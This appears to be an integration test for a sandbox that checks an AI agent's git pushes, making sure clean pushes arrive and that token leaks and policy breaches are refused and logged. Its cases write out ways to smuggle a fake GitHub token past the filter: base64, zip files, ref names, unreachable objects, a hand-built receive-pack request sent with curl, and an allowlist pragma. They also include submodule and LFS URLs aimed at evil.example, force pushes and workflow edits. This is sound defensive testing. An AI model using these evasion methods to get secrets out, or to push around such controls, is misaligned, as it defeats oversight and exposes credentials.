"""git in a real guest: an ordinary ssh remote leads over https, clean pushes arrive, and each of the others is refused in
words of its own on the agent's terminal, with its row, and without a push at the server."""

from tests.support.git_upstream import GitUpstream, git
from tests.support.house import House, HouseTest, Shell

HOST = "git.demo.test"
TOKEN = "ghp_" + "A" * 36
RULE = "dlp.github-pat"
FUNCTIONS = f"""
export GIT_AUTHOR_NAME=Agent GIT_AUTHOR_EMAIL=agent@demo.test GIT_COMMITTER_NAME=Agent GIT_COMMITTER_EMAIL=agent@demo.test
T={TOKEN}
fresh() {{ cd /root/app && git checkout -q -f -B work origin/main && git clean -fdq && git tag | xargs -r git tag -d >/dev/null; }}
commit() {{ git add -A && git commit -q --allow-empty -m "${{1:-words}}"; }}
"""
# A push with an object that nothing in it refers to, by hand.
UNREACHABLE = """
old=$(printf '%040d' 0); new=$(git rev-parse HEAD); loose=$(echo "left over $T" | git hash-object -w --stdin)
{ python3 -c 'import sys; line = f"{sys.argv[1]} {sys.argv[2]} refs/heads/agent/x\\0report-status side-band-64k"
print(f"{len(line) + 4:04x}{line}0000", end="")' $old $new
  printf '%s\\n' $new $(git rev-parse HEAD^{tree}) $(git rev-parse HEAD:a.txt) $loose | git pack-objects -q --stdout; } >/tmp/push
curl -s -H 'Content-Type: application/x-git-receive-pack-request' --data-binary @/tmp/push """ + \
    f"https://{HOST}/git/app.git/git-receive-pack | tr '\\0' ' '; false"
LFS = f"curl -s -d '{{\"operation\": \"upload\", \"objects\": []}}' https://{HOST}/git/app.git/info/lfs/objects/batch; false"
PUSH = "git push origin HEAD:agent/x"

# Name, what the agent does (its commits on top of what the server has), the rule, words on its terminal.
CASES = [
    ("a token in a new file", f"printf 'A=1\\nTOKEN=%s\\n' $T >prod.env; commit; {PUSH}", RULE, "in prod.env line 2"),
    ("with a comment that others heed", f"echo \"TOKEN=$T # gitleaks:allow pragma: allowlist secret\" >a.env; commit; {PUSH}",
     RULE, "in a.env line 1"),
    ("in a file deleted again", f"echo $T >secret.txt; commit; rm secret.txt; commit; {PUSH}", RULE, "in secret.txt"),
    ("in an amended commit's old blob, kept by a tag",
     "echo $T >secret.txt; commit; git tag v0; echo no >secret.txt; git commit -qa --amend -m w; git push origin HEAD:agent/x v0",
     RULE, "in secret.txt"),
    ("in a commit message", f"commit \"use $T\"; {PUSH}", RULE, "in commit message"),
    ("in an author's name", f"git commit -q --allow-empty -m w --author \"$T <a@demo.test>\"; {PUSH}", RULE, "in author"),
    ("in a path", f"mkdir d; echo x >d/$T.txt; commit; {PUSH}", RULE, "d/ghp_***"),
    ("in a tag message", "git tag -a v1 -m \"made with $T\"; git push origin v1", RULE, "in tag message"),
    ("in a ref name", "git push origin HEAD:agent/$T", RULE, "in ref name"),
    ("in an unreachable object", f"echo a >a.txt; commit; {UNREACHABLE}", RULE, "object"),
    ("in base64", f"echo \"token $T end\" | base64 >a.b64; commit; {PUSH}", RULE, "base64"),
    ("in a zip", f"echo \"token $T end\" >t.txt; python3 -m zipfile -c a.zip t.txt; rm t.txt; commit; {PUSH}", RULE, "zip"),
    ("force push", "git commit -q --amend -m other; git push --force origin HEAD:agent/old", "git.force", "no fast-forward"),
    ("branch deletion", "git push origin --delete agent/old", "git.delete", "may not be removed"),
    ("protected ref", "git push origin HEAD:agent/frozen", "git.protected", "is protected by rule 'app'"),
    ("a branch that no rule lets", "git push origin HEAD:release", "git.branch", "only branches may be pushed: agent/**"),
    ("workflow edit", f"echo 'on: [push, pull_request]' >.github/workflows/build.yml; commit; {PUSH}", "git.path",
     "'.github/workflows/build.yml' may not change"),
    ("foreign submodule", "git config -f .gitmodules submodule.x.path x; git config -f .gitmodules submodule.x.url "
                          f"https://evil.example/x.git; commit; {PUSH}", "git.submodule", "the host 'evil.example'"),
    ("foreign LFS", f"git config -f .lfsconfig lfs.url https://evil.example/x; commit; {PUSH}", "git.lfs", "the host 'evil.example'"),
    ("a push option", "git push -o ci.skip origin HEAD:agent/x", "git.push-option", "lets no push options pass"),
]


class GitInTheGuest(HouseTest):
    @classmethod
    def setUpClass(cls):
        cls.house = House()
        cls.addClassCleanup(cls.house.close)
        cls.upstream = GitUpstream(cls.house.directory / "upstream", [HOST])
        cls.addClassCleanup(cls.upstream.close)
        cls.bare = cls.upstream.make("app")
        seed = cls.house.directory / "seed"
        git("init", "-q", "-b", "main", str(seed))
        (seed / ".github/workflows").mkdir(parents=True)
        (seed / ".github/workflows/build.yml").write_text("on: push\n")
        (seed / "README.md").write_text("hello\n")
        git("-C", str(seed), "add", "-A")
        git("-C", str(seed), "commit", "-q", "-m", "first")
        git("-C", str(seed), "push", "-q", str(cls.bare), "main", "main:agent/old")
        policy = cls.house.policy({
            "git": [{"id": "app", "action": "allow", "remotes": [f"https://{HOST}/git/app.git"],
                     "push": {"branches": ["agent/**"], "tags": ["v*"], "protected": ["agent/frozen"],
                              "unchanged": [".github/workflows/**"]}}],
            "resolve": {HOST: f"127.0.0.1:{cls.upstream.tls}"}})
        cls.shell = Shell(cls.house, "--name", "git", "--image", "git", "--policy", policy, "--upstream-ca",
                          str(cls.upstream.ca))
        cls.addClassCleanup(cls.shell.close)
        code, told = cls.shell.run(f"cd /root && git clone -q git@{HOST}:git/app.git && cat app/README.md")
        if (code, told) != (0, "hello\n"):
            raise RuntimeError(told)
        cls.shell.run(FUNCTIONS)

    def last(self, table: str) -> dict:
        return self.rows("git", table=table)[-1]

    def test_a_clean_push_arrives(self):
        code, told = self.shell.run("fresh; echo more >a.txt; commit more; git push -q origin HEAD:agent/topic")
        self.assertEqual(code, 0, told)
        self.assertEqual(git("-C", str(self.bare), "log", "--format=%s", "agent/topic").stdout, "more\nfirst\n")
        row = self.last("git_events")
        self.assertEqual((row["ref"], row["verdict"], row["rule_id"]), ("refs/heads/agent/topic", "allow", "app"))

    def test_each_other_one_is_refused_with_its_own_words_and_row(self):
        pushes = self.upstream.pushes()
        for name, script, rule, words in CASES:
            with self.subTest(name):
                before = len(self.rows("git", table="git_events"))
                code, told = self.shell.run(f"fresh; {script}")
                self.assertEqual(code, 1, told)
                for expected in ("Gatehouse refused this push. Nothing of it was sent.", rule, words):
                    self.assertIn(expected, told)
                rows = self.rows("git", table="git_events")[before:]
                self.assertTrue(rows)
                for row in rows:
                    self.assertEqual((row["verdict"], row["rule_id"]), ("deny", rule), row["reason"])
                self.assertNotIn(TOKEN, str(rows))
                self.assertEqual(self.upstream.pushes(), pushes)

    def test_an_upload_of_lfs_is_refused_in_words(self):
        code, told = self.shell.run(f"fresh; {LFS}")
        self.assertIn("git.lfs", told)
        self.assertEqual(self.last("net_events")["rule_id"], "git.lfs")

    def test_ways_that_are_not_https_are_refused_in_words(self):
        code, told = self.shell.run(f"git ls-remote git://{HOST}:9418/git/app.git")
        self.assertEqual(code, 128)
        self.assertIn("remote error: Gatehouse: git:// has no way out of here", told)
        row = self.last("net_events")
        self.assertEqual((row["verdict"], row["rule_id"], row["port"]), ("deny", "protocol.git", 9418))
        # No ssh is in the image; what one would be told is what stands here.
        ssh = f"exec 3<>/dev/tcp/{HOST}/22; echo SSH-2.0-test >&3; cat <&3"
        code, told = self.shell.run(f"bash -c '{ssh}' | tr -d '\\0'")
        self.assertIn("Gatehouse: ssh has no way out of here", told)
        row = self.last("net_events")
        self.assertEqual((row["verdict"], row["rule_id"], row["port"]), ("deny", "protocol.ssh", 22))
